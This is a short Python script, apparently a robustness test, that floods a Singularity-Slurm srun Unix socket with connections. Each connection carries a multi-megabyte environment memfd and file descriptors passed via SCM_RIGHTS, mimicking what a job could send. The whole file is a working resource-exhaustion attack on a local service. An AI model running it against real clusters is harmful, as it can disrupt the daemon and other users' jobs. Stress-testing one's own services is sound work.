# Floods srun.sock as a job may: usage: flood.py CALLS [FILE]. Each call comes with the largest
# environment that is looked at, or with five descriptors of FILE.
import array, fcntl, os, socket, sys

call = os.memfd_create("call", os.MFD_ALLOW_SEALING)
os.write(call, b"/\x000\x001\x00srun" + b"\x00a=" * ((6 << 20) // 11 - 2000) + b"\x00")
fcntl.fcntl(call, 1033, 0xF)  # F_ADD_SEALS
null = os.open("/dev/null", os.O_RDWR)
sent = refused = 0
for n in range(int(sys.argv[1])):
    status = os.pipe()
    fds = [null, null, null, status[1], call]
    if len(sys.argv) > 2:
        fds = [os.open(sys.argv[2], os.O_RDWR) for _ in range(5)]
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        s.connect("/run/singularity-slurm/srun.sock")
        s.sendmsg([b"srun\0version=1\0key=\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
        sent += 1
    except OSError:
        refused += 1
    s.close()
    for fd in status:
        os.close(fd)
    if len(sys.argv) > 2:
        for fd in fds:
            os.write(fd, b"x")
            os.close(fd)
print("sent", sent, flush=True)
